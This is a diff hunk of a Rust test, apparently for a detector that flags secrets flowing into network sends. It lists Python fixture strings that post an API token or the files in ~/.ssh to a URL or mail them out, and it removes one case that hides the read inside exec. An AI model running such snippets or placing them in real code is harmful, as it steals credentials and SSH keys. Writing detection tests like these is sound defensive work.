@@ -59,7 +59,6 @@ fn a_secret_reaches_the_send() {
         "def outer():\n    k = os.environ['API_TOKEN']\n    def inner():\n        requests.post(URL, data=k)\n    inner()\nouter()",
         "x = Path('~/.ssh').expanduser()\nfor f in x.iterdir():\n    requests.post(URL, files={'f': f.read_bytes()})",
         "x = ''\nx += os.environ['API_TOKEN']\nrequests.post(URL, data=x)",
-        "exec(\"x = os.environ['API_TOKEN']\")\nrequests.post(URL, data=x)",
         "from email.message import EmailMessage\nm = EmailMessage()\nm.set_content(os.environ['API_TOKEN'])\nsmtplib.SMTP('m.example').send_message(m)",
         "x = map(os.environ.get, ['HOME', 'API_TOKEN'])\nrequests.post(URL, json=list(x))",
         "requests.post(URL, **{'data': os.environ['API_TOKEN']})",
